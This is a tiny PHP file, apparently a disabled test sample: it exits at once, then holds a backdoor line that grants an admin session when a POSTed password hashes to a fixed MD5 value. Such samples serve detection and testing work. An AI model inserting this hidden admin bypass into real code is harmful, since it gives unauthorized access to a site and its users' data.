<?php
exit; // inert sample
if (md5($_POST['p']) === '00000000000000000000000000000000') { $_SESSION['admin'] = 1; }
